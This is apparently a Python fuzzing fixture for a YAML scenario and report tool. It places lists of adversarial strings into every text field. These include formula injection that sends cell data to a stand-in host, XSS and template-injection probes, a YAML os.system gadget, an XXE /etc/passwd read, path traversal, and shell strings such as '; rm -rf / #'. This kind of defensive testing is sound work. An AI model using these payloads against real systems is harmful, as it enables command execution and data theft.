"""What somebody could write where a scenario has room for words, and a scenario with that in every such place."""

from __future__ import annotations

import json
from collections.abc import Mapping

CARRIED = (
    # formulas of a spreadsheet, and what turns into one after trimming
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example","x")', "\uff1d1+1",
    "'=1+1", '"=1+1"', "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "=WEBSERVICE(A1)", "%0A=1+1",
    # HTML, script, SVG, style, templates
    "<script>window.__hacked=1</script>", "</script><script>window.__hacked=1</script>",
    "<img src=x onerror=window.__hacked=1>", "<svg onload=window.__hacked=1>", "</style><style>*{display:none}</style>",
    "</title><iframe src=//evil.example></iframe>", '" onmouseover="window.__hacked=1', "' autofocus onfocus=hack() '",
    "javascript:window.__hacked=1", "<a href=http://evil.example>x</a>", "<!-- -->", "]]> --> */", "&lt;b&gt; &#106;",
    "{{7*7}} {% include 'x' %}", "${7*7} #{7*7}", "{chance} {0} {name!r} %s %(x)s",
    # typst
    "#read(\"/etc/passwd\")", "#eval(\"1+1\") $x^2$ @ref <label>", "#import \"@preview/x:0.1.0\": *",
    "*bold* _it_ `raw` \\",
    # Markdown, Rich markup
    "![x](http://evil.example/x.png)", "(x)(javascript:hack()) | a | b |", "# heading", "1. list", "```code```",
    "[bold red]x[/] [link=http://evil.example]y[/link]", "[/] [/bold] [@click=evil]", ":smile: :warning:",
    # YAML, XML, paths, addresses, terminals
    "- {a: &b *b}", "!!python/object/apply:os.system [id]", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "../../etc/passwd", "C:\\Windows\\win.ini", "file:///etc/passwd", "\\\\evil.example\\share",
    "http://evil.example www.evil.example a@evil.example", "\\x1b(31m \\033(0m ^(", "; rm -rf / #", "$(id) `id`",
    # scripts of the world
    "\u05d0\u05d1\u05d2 \u0645\u0631\u062d\u0628\u0627 123", "e\u0301\u0323\u0316 \u6f22\u5b57 \U0001f469",
    "\u00a0x\u2003y\u3000z",
    "x" * 120,
)  # fmt: skip
"""Texts that are carried into every output, as text; names refuse those with square brackets."""
REFUSED = (
    "\x1b[31mred", "\x1b]8;;http://evil.example\x07x", "\x9b31m", "bell\x07", "nul\x00", "back\x08\x08", "del\x7f",
    "\u202eexe.fdp", "\u2066x\u2069", "\u200fx", "zero\u200bwidth", "\u2060x", "\ufeffx", "soft\u00adhyphen",
    "a\u2028b",
    "a\u2029b", "two\nlines", "a\tb", "a\rb", "\x85", "\ue000", "\ufffe", "\U000e0041", "x" * 2_001, " ", "",
)  # fmt: skip
"""Texts that are refused, for nobody can see what they do."""
FIELDS = (
    "company", "title", "author", "note", "source", "owner", "remark", "team", "option",
)  # fmt: skip
PLACES = {
    "company.name": "company",
    "frontline.teams.name": "team",
    "training.teams": "team",
    "options.*": "option",
    "report.title": "title",
    "report.author": "author",
    "report.note": "note",
    "option.training.teams": "team",
    "source": "source",
    "owner": "owner",
    "note": "remark",
}
"""Where the schema of scenarios takes words (its definitions by name), and the field that stands there below."""
REFERENCES = ("extends", "report.logo", "correlations.between", "correlations.rank")
"""Where the schema takes the name of something else, or words that are a number."""
WRITTEN = {
    "company": "company.name", "title": "report.title", "author": "report.author", "note": "report.note",
    "source": "frontline.turnover.source", "owner": "frontline.turnover.owner", "remark": "frontline.turnover.note",
    "team": "frontline.teams.name", "option": "options",
}  # fmt: skip
"""Where each field stands in the scenario below, as messages name it."""
LONGEST_KEY = 1_000
"""Signs of a key that YAML takes for one."""
NAMES = ("company", "team", "option")
_SCENARIO = """\
company: {{name: {company}, country: CH, sector: retail}}
frontline:
  turnover: {{value: 18 % to 25 %, source: {source}, owner: {owner}, note: {remark}}}
  teams: [{{name: {team}, headcount: 60 to 80}}, {{name: other, headcount: 50}}]
training: {{teams: [{team}]}}
customers: {{count: 40'000, churn: 15 %, revenue_per_customer: 900, contribution_margin: 35 %}}
options: {{{option}: {{training: {{scale: 2, teams: [{team}]}}}}}}
simulation: {{trials: 100}}
report: {{title: {title}, author: {author}, note: {note}}}
"""


def scenario(words: Mapping[str, str]) -> bytes:
    """Return a scenario that holds a text in each of some fields."""
    every = {field: quoted(words.get(field, "plain")) for field in FIELDS}
    return _SCENARIO.format(**every).encode()


def references(text: str) -> bytes:
    """Return what takes the place of `report: {`, with a text where the name of something else belongs."""
    word = quoted(text)
    pairs = f"{{between: [{word}, x]}}, {{between: [frontline.turnover, customers.churn], rank: {word}}}"
    return f"extends: {word}\ncorrelations: [{pairs}]\nreport: {{logo: {word}, ".encode()


def quoted(text: str) -> str:
    """Return a text as a quoted scalar of YAML, every sign that is not ASCII by its number."""
    return '"' + "".join(json.dumps(sign)[1:-1] if sign.isascii() else f"\\U{ord(sign):08X}" for sign in text) + '"'


def placed(turn: int, step: int) -> dict[str, str]:
    """Return field -> text; in `len(CARRIED) / step` turns every text comes by, with step 1 in every field."""
    words = {field: CARRIED[(turn * step + place) % len(CARRIED)] for place, field in enumerate(FIELDS)}
    return {field: text for field, text in words.items() if field not in NAMES or fit_for_a_name(text)}


def fit_for_a_name(text: str) -> bool:
    """Tell whether a text may be a name: short, without square brackets and without blanks at its ends."""
    return len(text) <= 120 and not set(text) & set("[]") and text == text.strip()
